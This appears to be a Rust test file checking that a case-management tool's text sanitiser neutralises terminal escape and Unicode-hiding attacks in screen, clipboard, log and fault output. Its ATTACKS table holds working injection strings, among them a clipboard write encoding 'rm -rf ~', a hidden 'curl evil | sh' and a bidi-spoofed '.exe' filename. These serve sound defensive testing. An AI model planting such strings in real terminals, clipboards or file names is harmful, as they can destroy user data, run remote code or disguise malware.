//! What attackers write into cases, on every way out: screen, clipboard, CSV, Markdown, logs, names.

use std::fmt::Write as _;
use std::num::NonZero;
use std::sync::atomic::{AtomicU32, Ordering};
use std::thread;

use caseload::domain::fault::{Fault, FaultKind};
use caseload::domain::text::Clean;
use unicode_width::UnicodeWidthStr;

/// Name and bytes of what is known to be tried.
const ATTACKS: &[(&str, &str)] = &[
    ("CSI colours", "\x1b[31;1mred\x1b[0m"),
    ("CSI clear and home", "\x1b[2J\x1b[H"),
    ("CSI device report", "\x1b[6n\x1b[c\x1b[>0q"),
    ("OSC 8 link", "\x1b]8;;http://evil.example\x1b\\text\x1b]8;;\x1b\\"),
    ("OSC 52 clipboard", "\x1b]52;c;cm0gLXJmIH4=\x07"),
    ("OSC 0 title", "\x1b]0;pwned\x07"),
    ("OSC 1337 file", "\x1b]1337;File=name=eA==:AAAA\x07"),
    ("DCS", "\x1bP$q\"p\x1b\\\x1bPtmux;\x1b\x1b]52;c;eA==\x07\x1b\\"),
    ("APC, PM, SOS", "\x1b_Gf=24\x1b\\\x1b^x\x1b\\\x1bXx\x1b\\"),
    ("C1 CSI", "\u{9b}31m\u{9d}52;c;eA==\u{9c}\u{90}x\u{9c}"),
    ("bells and backspaces", "rm\x08\x08\x07\x0b\x0c\x7f"),
    ("carriage return", "safe\rcurl evil | sh"),
    ("bidi override", "invoice\u{202e}fdp.exe\u{202c}"),
    ("bidi isolate", "a\u{2066}b\u{2067}c\u{2068}d\u{2069}"),
    ("bidi marks", "a\u{200e}b\u{200f}c\u{61c}d"),
    ("tag characters", "hi\u{e0001}\u{e0069}\u{e0067}\u{e006e}\u{e007f}"),
    ("zero width", "pass\u{200b}word\u{2060}x\u{feff}y\u{180e}z"),
    ("joiners", "a\u{200d}\u{200d}\u{200d}b\u{200c}c"),
    ("line separators", "one\u{2028}two\u{2029}three\u{85}four"),
    ("annotations", "\u{fff9}base\u{fffa}text\u{fffb}"),
    ("noncharacters", "\u{fdd0}\u{ffff}\u{10ffff}"),
    ("fillers", "a\u{115f}\u{1160}\u{3164}\u{ffa0}b"),
];

fn is_harmless(text: &str, is_block: bool) -> bool {
    text.chars().all(|c| {
        let code = u32::from(c);
        let is_control = c.is_control() && !(is_block && c == '\n');
        let hides = matches!(code, 0x200b..=0x200f | 0x2028..=0x202e | 0x2060..=0x206f | 0xfeff | 0x61c | 0xad | 0xe0000..=0xe0fff | 0xfff9..=0xfffb);
        !is_control && !hides
    })
}

#[test]
fn no_attack_gets_through_whole_cut_or_glued() {
    for (name, attack) in ATTACKS {
        for text in [(*attack).to_owned(), attack.repeat(40), format!("title {attack} end"), format!("{attack}{attack}é漢")] {
            assert!(is_harmless(Clean::line(&text).as_str(), false), "{name}: {:?}", Clean::line(&text));
            assert!(is_harmless(Clean::block(&text).as_str(), true), "{name}: {:?}", Clean::block(&text));
            // Cutting a clean text, which every column does, cannot make it unclean.
            let clean = Clean::line(&text);
            for (at, _) in clean.as_str().char_indices() {
                assert_eq!(Clean::line(&clean.as_str()[..at]).as_str(), &clean.as_str()[..at], "{name} cut at {at}");
            }
        }
        // Two halves that are harmless apart are harmless together.
        for (at, _) in attack.char_indices() {
            let glued = format!("{}{}", Clean::line(&attack[..at]), Clean::line(&attack[at..]));
            assert!(is_harmless(&glued, false), "{name} glued at {at}: {glued:?}");
        }
    }
}

#[test]
fn all_of_unicode_is_harmless_between_letters_after_a_joiner_and_in_piles() {
    /// A plane.
    const SLICE: u32 = 0x1_0000;
    // Side by side: one thread takes minutes.
    let next = AtomicU32::new(0);
    let check = || {
        while let slice @ 0..=0x10 = next.fetch_add(1, Ordering::Relaxed) {
            (slice * SLICE..(slice + 1) * SLICE).filter_map(char::from_u32).for_each(is_harmless_everywhere);
        }
    };
    thread::scope(|scope| {
        for _ in 0..thread::available_parallelism().map_or(1, NonZero::get) {
            scope.spawn(check);
        }
    });
}

/// Between letters, behind a joiner, and in piles.
fn is_harmless_everywhere(c: char) {
    for text in [format!("a{c}b"), format!("\u{1f469}\u{200d}{c}"), format!("e{c}{c}{c}{c}{c}{c}{c}{c}")] {
        let line = Clean::line(&text);
        assert!(is_harmless(line.as_str(), false), "U+{:04X}: {line:?}", u32::from(c));
    }
    // A pile may not grow out of its row: never more marks than cells can hold.
    let piled = Clean::line(&format!("e{}", c.to_string().repeat(64)));
    let is_mark = |c: &char| UnicodeWidthStr::width(&*c.encode_utf8(&mut [0; 4])) == 0;
    let marks = piled.as_str().chars().skip(1).filter(is_mark).count();
    assert!(marks <= 4, "U+{:04X} piles {marks} marks", u32::from(c));
}

#[test]
fn faults_and_what_is_written_beside_them_are_cleaned_too() {
    for (name, attack) in ATTACKS {
        let fault = Fault::new(FaultKind::Server, format!("500: {attack}")).asking(format!("GET https://x/{attack}"));
        let mut said = String::new();
        write!(said, "{fault}").unwrap();
        assert!(is_harmless(&said, false), "{name}: {said:?}");
        // The log prints with Debug where it prints a structure: quoted and escaped.
        assert!(is_harmless(&format!("{fault:?}"), false), "{name}");
    }
}
